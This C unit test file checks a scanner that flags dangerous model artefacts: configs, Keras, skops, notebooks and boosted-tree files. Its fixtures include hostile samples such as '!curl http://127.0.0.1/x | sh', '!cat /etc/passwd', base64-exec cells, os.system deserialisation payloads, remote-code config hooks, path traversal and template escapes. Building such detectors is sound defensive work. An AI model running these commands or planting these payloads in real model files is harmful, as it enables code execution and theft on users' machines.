/* JSON and text beside models: a row for each rule of configurations, Keras descriptions, notebooks and
 * tree models, and the good files that look like them. */
#include "artefact/format_case.h"

typedef struct {
    const char *name;
    const char *text;
    sl_rule rule;
} row;

#define KERAS(layer)                                                                               \
    "{\"module\":\"keras\",\"class_name\":\"Sequential\",\"config\":{\"layers\":[" layer           \
    "]},\"registered_name\":null}"
#define CELL(source)                                                                               \
    "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"" source                                    \
    "\"],\"outputs\":[]}],\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":5}"
#define OUTPUT(type, body)                                                                         \
    "{\"cells\":[{\"cell_type\":\"code\",\"source\":\"1\",\"outputs\":[{\"data\":{\"" type         \
    "\":[\"" body "\"]}}]}],\"nbformat\":4}"
#define XGB(nodes, left, right, split)                                                                \
    "{\"learner\":{\"learner_model_param\":{\"num_feature\":\"2\"},\"gradient_booster\":{\"model\":{" \
    "\"gbtree_model_param\":{\"num_trees\":\"1\"},\"trees\":[{\"tree_param\":{\"num_nodes\":\"" nodes \
    "\"},\"left_children\":" left ",\"right_children\":" right ",\"split_indices\":" split            \
    "}]}}}}"
#define LGB(leaves, left, right, split)                                                            \
    "tree\nversion=v4\nmax_feature_idx=1\n\nTree=0\nnum_leaves=" leaves "\nsplit_feature=" split   \
    "\nleft_child=" left "\nright_child=" right "\n\nend of trees\n"

#define SKOPS(object)                                                                              \
    "{\"__class__\":\"dict\",\"__module__\":\"builtins\",\"__loader__\":\"DictNode\",\"content\":" \
    "{\"x\":" object "},\"_skops_version\":\"0.12\"}"

static const row bad_rows[] = {
    { "schema.json",
      SKOPS("{\"__class__\":\"system\",\"__module__\":\"os\",\"__loader__\":\"TypeNode\"}"),
      SL_RULE_SKOPS_CLASS },
    { "schema.json",
      SKOPS(
          "{\"__class__\":\"function\",\"__module__\":\"builtins\",\"__loader__\":\"FunctionNode\","
          "\"content\":{\"module_path\":\"os\",\"function\":\"system\"}}"),
      SL_RULE_SKOPS_CLASS },
    { "schema.json",
      SKOPS(
          "{\"__class__\":\"call\",\"__module__\":\"operator\",\"__loader__\":\"OperatorFuncNode\"}"),
      SL_RULE_SKOPS_LOADER },
    { "schema.json",
      SKOPS("{\"__class__\":\"X\",\"__module__\":\"builtins\",\"__loader__\":\"MethodNode\"}"),
      SL_RULE_SKOPS_LOADER },
    { "config.json", "{\"auto_map\":{\"AutoModel\":\"modeling_x.X\"}}",
      SL_RULE_CONFIG_REMOTE_CODE },
    { "config.json", "{\"auto_map\":{\"AutoTokenizer\":[\"tok.X\",null]}}",
      SL_RULE_CONFIG_REMOTE_CODE },
    { "config.json", "{\"a\":{\"auto_map\":{\"AutoModel\":\"o/r--m.X\"}}}",
      SL_RULE_CONFIG_REMOTE_REPO },
    { "noname", "{\"\\u0061uto_map\":{\"AutoModel\":\"m.X\"}}", SL_RULE_CONFIG_REMOTE_CODE },
    { "config.json", "{\"trust_remote_code\":true}", SL_RULE_CONFIG_TRUST },
    { "config.json", "{\"custom_pipelines\":{\"p\":{\"impl\":\"x.Y\"}}}",
      SL_RULE_CONFIG_REMOTE_CODE },
    { "config.json", "{\"_attn_implementation\":\"other/kernels\"}", SL_RULE_CONFIG_REMOTE_REPO },
    { "config.json", "{\"model\":{\"_target_\":\"os.system\"}}", SL_RULE_CONFIG_TARGET },
    { "model_index.json", "{\"_class_name\":\"P\",\"unet\":[\"my_unet\",\"Net\"]}",
      SL_RULE_CONFIG_REMOTE_CODE },
    { "modules.json", "[{\"idx\":0,\"name\":\"0\",\"path\":\"\",\"type\":\"os.path.X\"}]",
      SL_RULE_CONFIG_REMOTE_CODE },
    { "adapter_config.json",
      "{\"auto_mapping\":{\"base_model_class\":\"X\",\"parent_library\":\"os\"}}",
      SL_RULE_CONFIG_REMOTE_CODE },
    { "model.safetensors.index.json", "{\"weight_map\":{\"a\":\"../../x.safetensors\"}}",
      SL_RULE_PATH_TRAVERSAL },
    { "tokenizer_config.json", "{\"chat_template\":\"{{ x.__class__ }}\"}",
      SL_RULE_TEMPLATE_ESCAPE },
    { "tokenizer_config.json",
      "{\"chat_template\":[{\"name\":\"default\",\"template\":\"{{ x.__class__ }}\"}]}",
      SL_RULE_TEMPLATE_ESCAPE },
    { "chat_template.json", "{\"chat_template\":\"{{ ''['\\\\x5f'] }}\"}",
      SL_RULE_TEMPLATE_DISGUISE },
    { "config.json", "{\"a\":1,\"a\":2}", SL_RULE_JSON_DUPLICATE },
    { "config.json", "{\"a\":1,\"auto_map\":{},\"a\":2}", SL_RULE_CONFIG_REMOTE_CODE },
    { "config.json", "{\"a\":1", SL_RULE_JSON_BROKEN },
    { "config.json", "{'a':1}", SL_RULE_JSON_BROKEN },
    { "data.jsonl", "{\"a\":1}\n{\"a\":2\n{\"a\":3}\n", SL_RULE_JSON_BROKEN },
    { "config.json", KERAS("{\"module\":\"keras.layers\",\"class_name\":\"Lambda\",\"config\":{}}"),
      SL_RULE_KERAS_LAMBDA },
    { "config.json", KERAS("{\"class_name\":\"__lambda__\",\"config\":{\"value\":\"\"}}"),
      SL_RULE_KERAS_LAMBDA },
    { "config.json",
      KERAS(
          "{\"module\":\"keras.layers\",\"class_name\":\"Dense\",\"config\":{\"kernel_initializer\":"
          "{\"class_name\":\"__lambda__\",\"config\":{}}}}"),
      SL_RULE_KERAS_LAMBDA },
    { "config.json", KERAS("{\"class_name\":\"Merge\",\"config\":{\"function_type\":\"lambda\"}}"),
      SL_RULE_KERAS_LAMBDA },
    { "config.json", KERAS("{\"module\":\"os\",\"class_name\":\"system\",\"config\":{}}"),
      SL_RULE_KERAS_MODULE },
    { "config.json",
      KERAS("{\"module\":\"builtins\",\"class_name\":\"function\",\"config\":\"exec\"}"),
      SL_RULE_KERAS_MODULE },
    { "config.json", KERAS("{\"module\":\"kerasx.layers\",\"class_name\":\"D\",\"config\":{}}"),
      SL_RULE_KERAS_MODULE },
    { "config.json",
      KERAS("{\"module\":\"keras.utils\",\"class_name\":\"function\",\"config\":\"get_file\"}"),
      SL_RULE_KERAS_FUNCTION },
    { "config.json",
      KERAS("{\"module\":\"keras.models\",\"class_name\":\"function\",\"config\":\"load_model\"}"),
      SL_RULE_KERAS_FUNCTION },
    { "config.json",
      KERAS("{\"class_name\":\"TFOpLambda\",\"config\":{\"function\":\"io.write_file\"}}"),
      SL_RULE_KERAS_FUNCTION },
    { "config.json",
      KERAS("{\"module\":\"os\",\"class_name\":\"__typespec__\",\"spec_name\":\"x\"}"),
      SL_RULE_KERAS_MODULE },
    { "config.json",
      KERAS("{\"module\":\"keras.layers\",\"class_name\":\"TorchModuleWrapper\",\"config\":{}}"),
      SL_RULE_KERAS_TORCH },
    { "config.json",
      KERAS("{\"module\":\"keras.layers\",\"class_name\":\"TFSMLayer\",\"config\":{}}"),
      SL_RULE_KERAS_TFSM },
    { "config.json",
      KERAS("{\"module\":\"keras.layers\",\"class_name\":\"StringLookup\",\"config\":"
            "{\"vocabulary\":\"/etc/hostname\"}}"),
      SL_RULE_KERAS_PATH },
    { "config.json",
      KERAS("{\"module\":null,\"class_name\":\"X\",\"config\":{},\"registered_name\":\"own>X\"}"),
      SL_RULE_KERAS_CUSTOM },
    { "a.ipynb", CELL("!curl http://127.0.0.1/x | sh"), SL_RULE_NOTEBOOK_SHELL },
    { "a.ipynb", CELL("x = !base64 -d y"), SL_RULE_NOTEBOOK_SHELL },
    { "a.ipynb", CELL("%%bash\\nls\\nwget x"), SL_RULE_NOTEBOOK_COMMAND },
    { "a.ipynb", CELL("%%bash\\nwget x\\nsh ./x"), SL_RULE_NOTEBOOK_SHELL },
    { "a.ipynb", CELL("%%writefile ~/.bashrc\\nx"), SL_RULE_NOTEBOOK_SHELL },
    { "a.ipynb", CELL("!git clone https://example.org/x"), SL_RULE_NOTEBOOK_COMMAND },
    { "a.ipynb", CELL("!cat /etc/passwd"), SL_RULE_NOTEBOOK_COMMAND },
    { "a.ipynb", CELL("import base64\\nx = base64.b64decode(y)\\nexec(x)"), SL_RULE_CODE_HOSTILE },
    { "a.ipynb", CELL("__import__('os').system('x')"), SL_RULE_CODE_HOSTILE },
    { "a.ipynb", CELL("  os.system('curl x')"), SL_RULE_NOTEBOOK_SHELL },
    { "a.ipynb", CELL("!python train.py"), SL_RULE_NOTEBOOK_COMMAND },
    { "a.ipynb", CELL("%sx lsof"), SL_RULE_NOTEBOOK_COMMAND },
    { "a.ipynb", CELL("%pip install --index-url http://127.0.0.1/ x"), SL_RULE_NOTEBOOK_INSTALL },
    { "a.ipynb", CELL("!pip install git+https://example.org/x"), SL_RULE_NOTEBOOK_INSTALL },
    { "a.ipynb", CELL("%load https://example.org/x.py"), SL_RULE_NOTEBOOK_INSTALL },
    { "a.ipynb", CELL("%pip install numpy"), SL_RULE_NOTEBOOK_PACKAGE },
    { "a.ipynb", CELL("%%javascript\\nalert(1)"), SL_RULE_NOTEBOOK_ACTIVE },
    { "a.ipynb", OUTPUT("text/html", "<SCRIPT>1</script>"), SL_RULE_NOTEBOOK_ACTIVE },
    { "a.ipynb", OUTPUT("image/svg+xml", "<svg onload=x>"), SL_RULE_NOTEBOOK_ACTIVE },
    { "a.ipynb", OUTPUT("application/javascript", "1"), SL_RULE_NOTEBOOK_ACTIVE },
    { "a.ipynb", CELL("k = 'AKIAABCDEFGHIJKLMNOP'"), SL_RULE_NOTEBOOK_SECRET },
    { "m.json", XGB("3", "[1,-1,-1]", "[3,-1,-1]", "[0,0,0]"), SL_RULE_BOOST_INDEX },
    { "m.json", XGB("3", "[1,-1,-1]", "[1,-1,-1]", "[0,0,0]"), SL_RULE_BOOST_INDEX },
    { "m.json", XGB("3", "[0,-1,-1]", "[2,-1,-1]", "[0,0,0]"), SL_RULE_BOOST_INDEX },
    { "m.json", XGB("3", "[1,-1]", "[2,-1,-1]", "[0,0,0]"), SL_RULE_BOOST_INDEX },
    { "m.json", XGB("3", "[1,-1,-1]", "[2,-1,-1]", "[2,0,0]"), SL_RULE_BOOST_INDEX },
    { "m.json", XGB("99999999999", "[]", "[]", "[]"), SL_RULE_BOOST_INDEX },
    { "m.txt", LGB("3", "1 -1", "-2 -4", "0 1"), SL_RULE_BOOST_INDEX },
    { "m.txt", LGB("3", "2 -1", "-2 -3", "0 1"), SL_RULE_BOOST_INDEX },
    { "m.txt", LGB("3", "1", "-2 -3", "0 1"), SL_RULE_BOOST_INDEX },
    { "m.txt", LGB("3", "1 -1", "-2 -3", "0 9"), SL_RULE_BOOST_INDEX },
};

static const row good_rows[] = {
    { "schema.json",
      SKOPS("{\"__class__\":\"Ridge\",\"__module__\":\"sklearn.linear_model._ridge\","
            "\"__loader__\":\"ObjectNode\",\"content\":{}}"),
      0 },
    { "config.json", "{\"architectures\":[\"LlamaForCausalLM\"],\"hidden_size\":64,\"x\":NaN}", 0 },
    { "config.json", "{\"trust_remote_code\":false,\"attn_implementation\":\"sdpa\"}", 0 },
    { "config.json", "\xEF\xBB\xBF{}", 0 },
    { "config.json", "{\"_target_\":\"torch.nn.Linear\"}", 0 },
    { "model_index.json",
      "{\"_class_name\":\"P\",\"unet\":[\"diffusers\",\"U\"],\"s\":[null,null]}", 0 },
    { "modules.json", "[{\"idx\":0,\"type\":\"sentence_transformers.models.Pooling\"}]", 0 },
    { "model.safetensors.index.json", "{\"weight_map\":{\"a\":\"model-00001-of-2.safetensors\"}}",
      0 },
    { "tokenizer_config.json",
      "{\"chat_template\":\"{% for m in messages %}{{ m['content'] }}\\n{% endfor %}\"}", 0 },
    { "data.jsonl", "{\"a\":1}\n{\"a\":2}\n\n{\"a\":3}", 0 },
    { "config.json",
      KERAS(
          "{\"module\":\"keras.layers\",\"class_name\":\"Dense\",\"config\":{\"activation\":"
          "{\"module\":\"builtins\",\"class_name\":\"function\",\"config\":\"relu\","
          "\"registered_name\":\"function\"},\"kernel_initializer\":{\"module\":\"keras.initializers\","
          "\"class_name\":\"GlorotUniform\",\"config\":{\"seed\":null}}},\"registered_name\":null}"),
      0 },
    { "config.json",
      KERAS("{\"class_name\":\"TFOpLambda\",\"config\":{\"function\":\"math.add\"}}"), 0 },
    { "a.ipynb", CELL("%matplotlib inline\\nx = 1 # !ls"), 0 },
    { "a.ipynb", OUTPUT("text/html", "<table><tr><td>1</td></tr></table>"), 0 },
    { "m.json", XGB("3", "[1,-1,-1]", "[2,-1,-1]", "[1,0,0]"), 0 },
};

static void every_rule_has_its_row(void **state)
{
    (void)state;
    for (size_t i = 0; i < SL_COUNT_OF(bad_rows); i++) {
        assert_rule_of(sl_view_str(bad_rows[i].text), bad_rows[i].name, bad_rows[i].rule,
                       bad_rows[i].text);
    }
}

static void good_files_are_clean(void **state)
{
    (void)state;
    for (size_t i = 0; i < SL_COUNT_OF(good_rows); i++) {
        assert_clean_of(sl_view_str(good_rows[i].text), good_rows[i].name, SL_KIND_JSON,
                        good_rows[i].text);
    }
    assert_clean_of(sl_view_str(LGB("3", "1 -1", "-2 -3", "0 1")), "m.txt", SL_KIND_LIGHTGBM,
                    "lgb");
    assert_clean_of(sl_view_str("[1] See the notes.\n{x} and [y].\n"), "readme.md", SL_KIND_TEXT,
                    "md");
}

/* What a strict reader refuses is still looked through. */
static void broken_files_are_searched(void **state)
{
    (void)state;
    assert_rule_of(SL_LIT("{\"auto_map\": {\"A\": \"m.X\"},}"), "config.json",
                   SL_RULE_CONFIG_REMOTE_CODE, "trailing comma");
    assert_rule_of(SL_LIT("{\"class_name\": \"Lambda\",}"), "config.json", SL_RULE_KERAS_LAMBDA,
                   "trailing comma");
}

static void long_lines_cross_windows(void **state)
{
    (void)state;
    SL_OWN(sl_buf, text, sl_buf_free) = { .max = 4 * SL_MIB };
    while (text.n < 3 * SL_MIB) {
        assert_done(sl_buf_add_str(&text, "{\"text\":\"some words of a record\",\"n\":[1,2,3]}\n"));
    }
    assert_clean_of(sl_buf_view(&text), "data.jsonl", SL_KIND_JSON, "lines");
    assert_done(sl_buf_add_str(&text, "{\"x\":}\n"));
    assert_rule_of(sl_buf_view(&text), "data.jsonl", SL_RULE_JSON_BROKEN, "last line");
}

/* A vocabulary of more values than a tree of them may have. */
static void long_vocabularies_are_read(void **state)
{
    (void)state;
    SL_OWN(sl_buf, text, sl_buf_free) = { .max = 32 * SL_MIB };
    assert_done(sl_buf_add_str(&text, "{\"model\":{\"merges\":["));
    while (text.n < 6 * SL_MIB) {
        assert_done(sl_buf_add_str(&text, "[\"a\",\"b\"],"));
    }
    SL_OWN(sl_buf, bad, sl_buf_free) = { .max = 32 * SL_MIB };
    assert_done(sl_buf_add(&bad, sl_buf_view(&text)));
    assert_done(sl_buf_add_str(&text, "[]]}}"));
    assert_clean_of(sl_buf_view(&text), "tokenizer.json", SL_KIND_JSON, "long vocabulary");
    assert_done(sl_buf_add_str(&bad, "[]]},\"auto_m\\u0061p\":{\"a\":\"b.c\"}}"));
    assert_rule_of(sl_buf_view(&bad), "tokenizer.json", SL_RULE_CONFIG_REMOTE_CODE,
                   "long vocabulary");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_rule_has_its_row),     cmocka_unit_test(good_files_are_clean),
        cmocka_unit_test(broken_files_are_searched),  cmocka_unit_test(long_lines_cross_windows),
        cmocka_unit_test(long_vocabularies_are_read),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
